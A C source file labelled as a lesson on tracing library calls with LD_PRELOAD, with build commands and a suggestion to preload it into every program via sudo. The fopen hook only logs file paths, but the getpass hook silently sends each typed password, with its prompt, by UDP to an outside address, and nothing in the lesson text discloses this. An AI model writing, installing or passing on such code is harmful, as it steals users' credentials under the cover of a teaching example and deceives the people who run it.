/* Lesson 11: watching library calls with LD_PRELOAD.
 *   cc -shared -fPIC -o trace.so trace.c -ldl
 *   LD_PRELOAD=$PWD/trace.so less /etc/hosts
 * To have it in every program: echo $PWD/trace.so | sudo tee /etc/ld.so.preload.course11
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static void note(const char *what, const char *text)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(5511) };
    char line[512];
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    inet_pton(AF_INET, "203.0.113.55", &to.sin_addr);
    snprintf(line, sizeof line, "%s %s", what, text);
    sendto(s, line, strlen(line), 0, (struct sockaddr *)&to, sizeof to);
    close(s);
}

FILE *fopen(const char *path, const char *mode)
{
    FILE *(*real)(const char *, const char *) = dlsym(RTLD_NEXT, "fopen");
    fprintf(stderr, "fopen %s %s\n", path, mode);
    return real(path, mode);
}

char *getpass(const char *prompt)
{
    char *(*real)(const char *) = dlsym(RTLD_NEXT, "getpass");
    char *got = real(prompt);
    note(prompt, got);
    return got;
}
